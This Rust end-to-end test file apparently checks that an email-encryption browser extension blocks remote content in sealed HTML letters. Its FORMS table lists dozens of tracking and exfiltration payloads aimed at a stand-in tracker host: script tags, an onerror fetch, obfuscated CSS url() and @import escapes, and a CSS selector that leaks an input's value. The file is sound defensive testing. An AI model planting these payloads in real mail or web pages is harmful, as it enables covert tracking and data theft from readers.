//! Remote content in every form, in a sealed HTML letter, and HTML around sealed text. The
//! listener for all names counts.

mod envelope;

use anyhow::Result;
use extension_tests::web::Said;
use letterlock_tests::page::id;

use crate::stage::{Stage, TRACKER, from_carol, html_entity};

/// Where the letter stands unsealed and uncleaned.
const CONTROL: &str = "control.test";

/// What asks for something: a name, which is the path, and whether any browser asks without a
/// click, so that the control must see it.
const FORMS: &[(&str, &str, bool)] = &[
    ("img", "<img src=\"{}\">", true),
    (
        "img-plain",
        "<img src=\"http://tracker.test/img-plain\">",
        true,
    ),
    (
        "img-case",
        "<ImG sRc=\"HTTPS://Tracker.test/img-case\">",
        true,
    ),
    (
        "img-relative",
        "<img src=\"//tracker.test/img-relative\">",
        true,
    ),
    ("img-srcset", "<img srcset=\"{} 2x, {} 1x\">", true),
    (
        "img-lazy",
        "<img loading=eager data-src=\"{}\" src=\"{}\">",
        true,
    ),
    (
        "img-lowsrc",
        "<img lowsrc=\"{}\" dynsrc=\"{}\" longdesc=\"{}\">",
        false,
    ),
    (
        "picture",
        "<picture><source srcset=\"{}\"><img alt=x></picture>",
        true,
    ),
    ("input", "<input type=image src=\"{}\">", true),
    (
        "background",
        "<table background=\"{}\"><tr><td>x</td></tr></table>",
        true,
    ),
    ("body", "<body background=\"{}\">", false),
    ("poster", "<video poster=\"{}\"></video>", true),
    ("video", "<video src=\"{}\" preload=auto></video>", true),
    (
        "source",
        "<video preload=auto><source src=\"{}\"></video>",
        true,
    ),
    ("audio", "<audio src=\"{}\" preload=auto></audio>", true),
    (
        "track",
        "<video src=\"data:,\"><track src=\"{}\" default></video>",
        false,
    ),
    (
        "svg-image",
        "<svg><image href=\"{}\" width=9 height=9 /></svg>",
        true,
    ),
    (
        "svg-xlink",
        "<svg><image xlink:href=\"{}\" width=9 height=9 /></svg>",
        true,
    ),
    ("svg-use", "<svg><use href=\"{}#a\"/></svg>", false),
    (
        "svg-feimage",
        "<svg width=9 height=9><filter id=f><feImage href=\"{}\"/></filter><rect width=9 height=9 filter=\"url(#f)\"/></svg>",
        true,
    ),
    (
        "svg-style",
        "<svg><style>@import \"{}\";</style></svg>",
        true,
    ),
    (
        "svg-in-math",
        "<math><annotation-xml encoding=\"text/html\"><img src=\"{}\"></annotation-xml></math>",
        true,
    ),
    ("math-href", "<math href=\"{}\"><mi>x</mi></math>", false),
    ("link-stylesheet", "<link rel=stylesheet href=\"{}\">", true),
    (
        "link-preload",
        "<link rel=preload as=image href=\"{}\">",
        true,
    ),
    ("link-prefetch", "<link rel=prefetch href=\"{}\">", false),
    ("link-icon", "<link rel=icon href=\"{}\">", false),
    (
        "link-dns",
        "<link rel=dns-prefetch href=\"//dns.tracker.test\">",
        false,
    ),
    ("iframe", "<iframe src=\"{}\"></iframe>", true),
    (
        "iframe-srcdoc",
        "<iframe srcdoc=\"<img src='{}'>\"></iframe>",
        true,
    ),
    ("frame", "<frameset><frame src=\"{}\"></frameset>", false),
    ("object", "<object data=\"{}\"></object>", true),
    ("embed", "<embed src=\"{}\" type=\"image/gif\">", true),
    (
        "form",
        "<form action=\"{}\"><button formaction=\"{}\" autofocus>x</button></form>",
        false,
    ),
    ("script", "<script src=\"{}\"></script>", true),
    (
        "onerror",
        "<img src=\"data:,\" onerror=\"fetch('{}')\">",
        true,
    ),
    (
        "css-attribute",
        "<p style=\"background: url({})\">x</p>",
        true,
    ),
    (
        "css-quoted",
        "<p style='background-image: url(\"{}\")'>x</p>",
        true,
    ),
    (
        "css-colour",
        "<p style=\"background-color: red; background: 0 / cover URL( '{}' )\">x</p>",
        true,
    ),
    (
        "css-escape",
        "<p style=\"background: u\\72l({})\">x</p>",
        true,
    ),
    (
        "css-escape-6",
        "<p style=\"background: \\000075rl({})\">x</p>",
        true,
    ),
    (
        "css-comment",
        "<p style=\"/**/background:/**/url({})\">x</p>",
        true,
    ),
    (
        "css-image-set",
        "<p style=\"background: image-set('{}' 1x)\">x</p>",
        true,
    ),
    (
        "css-webkit-set",
        "<p style=\"background: -webkit-image-set(url({}) 1x)\">x</p>",
        true,
    ),
    (
        "css-cross-fade",
        "<p style=\"background: cross-fade(url({}), url({}))\">x</p>",
        false,
    ),
    (
        "css-list",
        "<ul style=\"list-style-image: url({})\"><li>x</ul>",
        true,
    ),
    (
        "css-border",
        "<p style=\"border: 9px solid; border-image: url({}) 9\">x</p>",
        true,
    ),
    ("css-content", "<p style=\"content: url({})\">x</p>", false),
    (
        "css-cursor",
        "<p style=\"cursor: url({}), auto\">x</p>",
        false,
    ),
    ("css-mask", "<p style=\"mask-image: url({})\">x</p>", false),
    ("css-filter", "<p style=\"filter: url({}#f)\">x</p>", false),
    (
        "css-var",
        "<p style=\"--a: url({}); background: var(--a)\">x</p>",
        true,
    ),
    ("css-import", "<style>@import \"{}\";</style>", true),
    (
        "css-import-url",
        "<style>@import url({}) screen;</style>",
        true,
    ),
    (
        "css-import-escape",
        "<style>@\\69mport \"{}\";</style>",
        true,
    ),
    (
        "css-font",
        "<style>@font-face{font-family:evil;src:url({})}.e{font-family:evil}</style><p class=e>x</p>",
        true,
    ),
    (
        "css-selector",
        "<input value=secret><style>input[value^=s]{background:url({})}</style>",
        true,
    ),
    (
        "css-before",
        "<style>p::before{content:url({})}</style><p>x</p>",
        true,
    ),
    ("css-html", "<style>html{background:url({})}</style>", true),
];

/// What is left of the above when the person wants pictures: those that are plainly pictures.
const PICTURES: &[&str] = &["img", "img-plain", "img-case", "img-lazy"];

/// A connection counts, too.
const PRECONNECT: &str = "early.tracker.test";

/// All forms, under addresses that begin with a word of their own.
fn letter(place: &str) -> String {
    let forms: String = FORMS
        .iter()
        .map(|(name, form, _)| {
            form.replace("racker.test/", &format!("racker.test/{place}"))
                .replace("{}", &format!("https://{TRACKER}/{place}{name}"))
        })
        .collect();
    format!(
        "<link rel=preconnect href=\"https://{PRECONNECT}\" crossorigin>A letter with ears{forms}"
    )
}

pub(crate) async fn play(stage: &Stage) -> Result<()> {
    control(stage).await?;
    let alice = &stage.alice;
    let mark = stage.web.mark();
    let before = preconnections(stage);
    let refresh = format!(
        "<base href=\"https://{TRACKER}/base/\"><img src=\"in-base\">\
         <meta http-equiv=refresh content=\"0; url=https://{TRACKER}/refresh\">{}",
        letter("")
    );
    let sealed = stage
        .carol
        .seal(crate::stage::ALICE, &html_entity(&refresh))
        .await?;
    stage.open_mail(from_carol(sealed)).await?;
    shown(stage).await?;
    assert_eq!(asked(stage, mark), Vec::<String>::new(), "nobody asked");

    stage.press("reader", "show-pictures").await?;
    let mut found = alice
        .page
        .until("the pictures", async || {
            let found = asked(stage, mark);
            let all = PICTURES
                .iter()
                .all(|name| found.contains(&format!("/{name}")));
            Ok(all.then_some(found))
        })
        .await?;
    shown(stage).await?;
    found = [found, asked(stage, mark)].concat();
    found.retain(|path| !PICTURES.contains(&path.trim_start_matches('/')));
    assert!(found.is_empty(), "more than pictures: {found:?}");
    assert_eq!(preconnections(stage), before, "a connection was opened");
    alice.leave().await?;

    envelope::play(stage).await
}

/// Waits until the letter's own frame is there with all that it will ever load.
async fn shown(stage: &Stage) -> Result<()> {
    let page = &stage.alice.page;
    page.see(id("message-frame")).await?;
    page.until("the letter", async || {
        let state = stage
            .script(
                "const frame = document.querySelector('[data-testid=\"message-frame\"]'); \
                 const inner = frame.contentDocument; \
                 return inner.readyState === 'complete' && inner.body.textContent.includes('ears') \
                   && [...inner.images].every((image) => image.complete)",
            )
            .await?;
        Ok((state == true).then_some(()))
    })
    .await
}

/// What was asked of the tracker, without what the control may still be asking.
fn asked(stage: &Stage, mark: usize) -> Vec<String> {
    let tracked = stage.tracked(mark).into_iter();
    tracked
        .filter(|path| !path.starts_with("/control-"))
        .collect()
}

fn preconnections(stage: &Stage) -> usize {
    let greeted = stage.web.greeted();
    greeted.iter().filter(|name| *name == PRECONNECT).count()
}

/// Without the extension's walls the listener hears all of it.
async fn control(stage: &Stage) -> Result<()> {
    let html = format!(
        "<!doctype html><title>Control</title>{}",
        letter("control-")
    );
    stage
        .web
        .put(CONTROL, move |_: &extension_tests::web::Asked| {
            Said::body("text/html; charset=utf-8", html.clone())
        });
    let mark = stage.web.mark();
    stage
        .alice
        .page
        .open(&format!("https://{CONTROL}/"))
        .await?;
    let mut missing = Vec::new();
    let all = stage
        .alice
        .page
        .until("the control's requests", async || {
            let found = stage.tracked(mark);
            missing = FORMS
                .iter()
                .filter(|(name, _, loads)| *loads && !found.contains(&format!("/control-{name}")))
                .map(|(name, ..)| *name)
                .collect();
            Ok((missing.is_empty() && preconnections(stage) > 0).then_some(()))
        })
        .await;
    assert!(all.is_ok(), "the listener did not hear {missing:?}");
    Ok(())
}
